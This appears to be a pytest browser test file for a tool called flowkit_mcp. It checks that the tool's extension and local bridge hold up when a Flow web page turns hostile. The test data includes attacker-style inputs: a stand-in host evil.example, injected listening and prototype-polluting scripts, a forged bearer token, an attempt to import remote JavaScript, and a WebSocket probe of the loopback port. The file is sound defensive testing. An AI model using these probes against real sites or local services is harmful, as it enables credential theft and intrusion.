"""Flow's own page turned against us in the middle of a paid call, and what code that got inside could do."""

from __future__ import annotations

import json
import logging
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from chromium import reload
from playwright.async_api import Playwright
from stage import CLIP, MINT, PAGES, Stage, stage

from flowkit_mcp.simulator import site_hosts
from flowkit_mcp.simulator.site_app import ExtraPage
from flowkit_mcp.simulator.site_hostile import script
from flowkit_mcp.simulator.state import Lane

pytestmark = pytest.mark.browser

EVIL = "https://evil.example/"


async def turned(at: Stage, name: str) -> int:
    """The page is spoiled while the captcha token is made: the paid call itself is the first to meet it."""
    hold = at.hold(MINT)
    job = await at.order_clip()
    await hold.reached.wait()
    await at.tab.evaluate(script(name))
    hold.release()
    return job


def sent(at: Stage) -> int:
    return len([one for one in at.site.requests if CLIP[at.lane] in one.url])


@pytest.mark.parametrize("name", ["fetch_listens", "prototypes"])
@pytest.mark.parametrize("lane", ["batchexecute", "labs"])
async def test_a_page_that_listens_or_bends_its_prototypes_changes_nothing_and_hears_nothing_of_flowkit(
    tmp_path: Path, playwright: Playwright, lane: Lane, name: str
) -> None:
    async with stage(tmp_path, playwright, lane=lane) as at:
        result = await at.result(await turned(at, name))
        assert result.success, result.error
        at.check_books()
        assert not await at.tab.evaluate("window.polluted ?? false")
        heard = json.dumps(await at.tab.evaluate("window.heard ?? []"))
        assert ("batchexecute" in heard or "aisandbox" in heard) == (name == "fetch_listens")
        for ours in (at.instance, str(at.settings.port), at.code, "chrome-extension"):
            assert ours not in heard


@pytest.mark.parametrize("name", ["fetch_lies", "map_forged"])
async def test_what_a_page_makes_up_is_no_answer_and_no_reason_to_send_again(
    tmp_path: Path, playwright: Playwright, name: str
) -> None:
    async with stage(tmp_path, playwright) as at:
        job = await turned(at, name)
        await at.told(lambda seen: seen.gate != "open" or sent(at) > 0)
        await reload(at.tab)  # Flow's own again
        await at.kit.reopen()
        result = await at.result(job)
        assert str(result.error).startswith("OUTCOME_UNKNOWN: ")
        assert sent(at) == 0
        assert not at.sim.ledger()


async def test_a_token_full_of_quotes_stays_one_text_in_one_call(
    tmp_path: Path, playwright: Playwright
) -> None:
    async with stage(tmp_path, playwright) as at:
        at.site.hostile = "captcha_quotes"
        await reload(at.tab)
        await at.order_clip()
        await at.told(lambda seen: "UNUSUAL_ACTIVITY" in (seen.message or ""))
        assert sent(at) == 1, "Flow refused the token; nothing was injected, and nothing repeated"
        assert not at.sim.ledger()


async def test_a_bearer_of_another_site_is_not_adopted_but_a_newer_one_of_the_page_is(
    tmp_path: Path, playwright: Playwright, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Flow's API is made to answer the hostile page, too, or its bearer would never be sent."""
    pages = site_hosts.MAY_ASK[site_hosts.API]
    monkeypatch.setitem(site_hosts.MAY_ASK, site_hosts.API, (*pages, EVIL.rstrip("/")))
    async with stage(tmp_path, playwright, lane="labs") as at:
        # The page has sent its own first: the newest is what it sent last.
        await at.tab.locator("html[data-ready]").wait_for(state="attached")
        newer = at.sim.service.bearers.current("demo", 0)
        at.site.add_page(EVIL, ExtraPage("<title>evil</title>"))
        evil = await at.browser.context.new_page()
        await evil.goto(EVIL)
        ask = """(bearer) => fetch('https://aisandbox-pa.googleapis.com/v1/credits', {
            headers: { authorization: `Bearer ${bearer}` }, cache: 'no-store',
        }).then((reply) => reply.status)"""
        assert await at.tab.evaluate(ask, newer) == 200
        forged = "forged-by-a-hostile-page-0123456789"
        assert await evil.evaluate(ask, forged) == 401
        assert f"Bearer {forged}" in [one.headers.get("authorization") for one in at.site.requests]
        result = await at.result(await at.order_clip())
        assert result.success, result.error
        clips = [one for one in at.site.requests if CLIP["labs"] in one.url]
        used = {one.headers.get("authorization") for one in clips if one.method == "POST"}
        assert used == {f"Bearer {newer}"}


@pytest.mark.parametrize("lane", ["batchexecute", "labs"])
async def test_a_call_has_the_headers_of_the_pages_own_calls(
    tmp_path: Path, playwright: Playwright, lane: Lane
) -> None:
    """Nothing added, nothing rewritten: what the page itself would send, header by header."""
    own = {
        "batchexecute": """fetch('/_/AiSandboxAngularFrontend/data/batchexecute?own', {
            method: 'POST', headers: { 'x-same-domain': '1' }, body: new URLSearchParams('a=b') })""",
        "labs": """fetch('https://aisandbox-pa.googleapis.com/v1/video:own', {
            method: 'POST', body: '{}',
            headers: { authorization: 'x', 'content-type': 'text/plain;charset=UTF-8' } })""",
    }
    differ = {"content-length", "authorization", "cache-control", "pragma"}
    async with stage(tmp_path, playwright, lane=lane) as at:
        await at.tab.evaluate(f"{own[lane]}.then(() => 0, () => 0)")
        result = await at.result(await at.order_clip())
        assert result.success, result.error
        posts = [one for one in at.site.requests if one.method == "POST"]
        (theirs,) = [
            one.headers
            for one in posts
            if urlsplit(one.url).query == "own" or one.url.endswith(":own")
        ]
        (ours,) = [one.headers for one in posts if CLIP[lane] in one.url]
        plain = [{n: v for n, v in one.items() if n not in differ} for one in (ours, theirs)]
        assert plain[0] == plain[1]
        assert plain[0]["origin"] == PAGES[lane].partition("/project")[0].removesuffix(
            "/fx/tools/flow"
        )


async def test_text_is_never_run_as_code_and_no_code_comes_from_elsewhere(
    tmp_path: Path, playwright: Playwright
) -> None:
    async with stage(tmp_path, playwright) as at:
        at.site.add_page(
            f"{EVIL}x.js", ExtraPage("globalThis.ran = true", {"content-type": "text/javascript"})
        )
        # Later, since DevTools lets what it evaluates itself do more.
        run = """() => new Promise((done) => setTimeout(() => {
            try { done(eval('"ran"')); } catch (error) { done(error.name); }
        }))"""
        load = f"import('{EVIL}x.js').then(() => 'ran', (error) => error.name)"
        worker, panel = await at.browser.worker(), await at.browser.panel()
        for place in (worker, panel):
            assert await place.evaluate(run) == "EvalError"
            assert await place.evaluate(load) == "TypeError"
        assert not [one for one in at.site.requests if one.host == "evil.example"]


async def test_chromes_guard_of_the_own_network_comes_before_ours_and_ours_holds_without_it(
    tmp_path: Path,
    playwright: Playwright,
    monkeypatch: pytest.MonkeyPatch,
    caplog: pytest.LogCaptureFixture,
) -> None:
    """A page of the public web needs a person's leave to reach loopback; one that has it still meets our gate."""
    caplog.set_level(logging.INFO, logger="flowkit.bridge")

    def refusals() -> int:
        return caplog.text.count("refused a connection: wrong origin")

    knock = """({ port, limitMs }) => new Promise((resolve) => {
        const socket = new WebSocket(`ws://127.0.0.1:${port}/ext`);
        socket.onopen = () => resolve('open'); socket.onerror = () => resolve('refused');
        setTimeout(() => resolve('no answer'), limitMs);
    })"""
    async with stage(tmp_path, playwright, public=True) as at:
        at.site.add_page(EVIL, ExtraPage("<title>evil</title>"))
        page = await at.browser.context.new_page()
        await page.goto(EVIL)
        port = at.settings.port
        # Chrome may ask the person, and then nothing comes of it.
        assert await page.evaluate(knock, {"port": port, "limitMs": 3_000}) != "open"
        assert refusals() == 0, "it never came as far as our gate"
        cdp = await at.browser.context.new_cdp_session(page)
        await cdp.send(
            "Browser.grantPermissions",
            {"permissions": ["loopbackNetwork"], "origin": EVIL.rstrip("/")},
        )
        assert await page.evaluate(knock, {"port": port, "limitMs": 60_000}) == "refused"
        assert refusals() == 1
        result = await at.result(await at.order_clip())
        assert result.success, "the extension needs nobody's leave"
